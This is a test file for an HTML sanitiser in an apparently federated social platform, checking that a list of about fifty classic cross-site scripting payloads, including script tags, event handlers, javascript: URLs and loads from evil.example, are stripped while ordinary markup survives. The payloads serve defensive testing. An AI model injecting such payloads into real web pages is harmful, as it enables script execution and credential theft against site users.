"""Nothing that runs, loads or hides survives sanitising; what people write does."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from federation.content.receiving import LONGEST_HTML, received_html
from federation.content.sanitising import LINK_RELATION, MOST_TAGS, sanitised, with_linked_pictures

CLASSICS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://a.example' onclick=alert(1) style='position:fixed' target=_top>x</a>",
    "<a href='https://a.example' rel='opener me'>x</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<form action='https://evil.example'><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--<img src='--><img src=x onerror=alert(1)>'-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p id=__proto__ name=x class='admin-bar'>x</p>",
    "<x-element is=x onfocus=alert(1) tabindex=1 autofocus>x</x-element>",
    "<table><td background='javascript:alert(1)'>x</td></table>",
    "<a href='https://a.example' class='mention btn btn-danger'>x</a>",
    "<p lang='\"><script>alert(1)</script>'>x</p>",
    "<ruby><rt><script>alert(1)</script></rt></ruby>",
]

_ALLOWED_ATTRIBUTES = {
    "href",
    "hreflang",
    "rel",
    "class",
    "lang",
    "dir",
    "translate",
    "start",
    "reversed",
    "value",
}
_ALLOWED_CLASSES = {"mention", "hashtag", "u-url", "h-card", "invisible", "ellipsis", "quote-inline"}
_FORBIDDEN_NAMES = """script style svg math iframe object embed form input button img audio video meta base link body
template div"""
_FORBIDDEN = frozenset(_FORBIDDEN_NAMES.split())


class _Checker(HTMLParser):
    """Reads HTML as a browser would and says what should not be in it."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        if tag in _FORBIDDEN:
            self.wrong.append(f"<{tag}>")
        self.wrong.extend(name for name in attributes if name not in _ALLOWED_ATTRIBUTES)
        href = attributes.get("href")
        if href is not None and not href.lower().startswith(("http://", "https://")):
            self.wrong.append(f"href={href}")
        if tag == "a" and attributes.get("rel") != LINK_RELATION:
            self.wrong.append(f"rel={attributes.get('rel')}")
        self.wrong.extend(set((attributes.get("class") or "").split()) - _ALLOWED_CLASSES)

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}-->")


def wrongs(html: str) -> list[str]:
    checker = _Checker()
    checker.feed(html)
    checker.close()
    return checker.wrong


@pytest.mark.parametrize("html", CLASSICS)
def test_nothing_of_the_classic_attacks_survives(html: str) -> None:
    for clean in (sanitised(html), with_linked_pictures(html), sanitised(f"<p>before {html} after")):
        assert wrongs(clean) == []
        assert sanitised(clean) == clean


_FRAGMENTS = st.sampled_from(
    [*CLASSICS, "<p>", "</p>", "<a href=", "'", '"', ">", "<", "<b>", "</b>", "<!--", "-->", "javascript:", "https://a.example",
     " onclick=x", "<table>", "<svg>", "<math>", "</svg>", "&#x6a;", "\x00", "\n", "<img src=https://a.example/1.png alt='"]
)  # fmt: skip


@given(st.lists(_FRAGMENTS | st.text(max_size=10), max_size=15).map("".join))
@settings(max_examples=300, deadline=None)
def test_no_mixture_of_fragments_survives(html: str) -> None:
    for media_type in ("text/html", "text/markdown", "text/plain"):
        clean = received_html(html, media_type)
        assert wrongs(clean) == []
        assert sanitised(clean) == clean


@pytest.mark.parametrize(
    "html",
    [
        "<p>a<br>b</p>",
        "<h2>a</h2><ul><li>b</li></ul><ol start=\"3\"><li>c</li></ol>",
        "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>",
        "<blockquote><p>a</p></blockquote><pre><code>b</code></pre>",
        "<p lang=\"ar\" dir=\"rtl\">مرحبا</p>",
        '<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>',
        '<span class="h-card" translate="no">a</span>',
    ],
)  # fmt: skip
def test_what_people_write_stays_as_it_is(html: str) -> None:
    assert sanitised(html) == html


def test_mentions_keep_their_classes_and_links_get_their_relation() -> None:
    html = '<a href="https://a.example/@b" class="u-url mention other">@b</a>'
    assert (
        sanitised(html)
        == f'<a href="https://a.example/@b" class="u-url mention" rel="{LINK_RELATION}">@b</a>'
    )


def test_pictures_become_links_where_they_can_be_looked_at() -> None:
    picture = '<p><img alt="a &lt;ring&gt;" src="https://a.example/1.png?a=1&amp;b=2"></p>'
    assert with_linked_pictures(picture) == (
        f'<p><a href="https://a.example/1.png?a=1&amp;b=2" rel="{LINK_RELATION}">a &lt;ring&gt;</a></p>'
    )
    assert with_linked_pictures('a<img src="/local.png" alt="x">b') == "ab"
    assert sanitised(picture) == "<p></p>"


def test_endless_nesting_is_kept_as_text() -> None:
    html = sanitised("<ul><li>x" * MOST_TAGS)
    assert "<" not in html
    assert html.count("x") == MOST_TAGS


@pytest.mark.parametrize("piece", ["<a href=//x>", "&", "<b>x", "x", "<p><b>"])
def test_a_foreign_text_stays_below_its_size(piece: str) -> None:
    assert 0 < len(received_html(piece * 100_000 + "x")) <= LONGEST_HTML


def test_foreign_texts_in_other_writings() -> None:
    assert (
        received_html("**a** <b>b</b>", "text/markdown") == "<p><strong>a</strong> &lt;b&gt;b&lt;/b&gt;</p>\n"
    )
    assert received_html("a\n<b>", "text/plain") == "<p>a<br>&lt;b&gt;</p>"
    assert received_html("a", "text/x.misskeymarkdown") == "<p>a</p>"
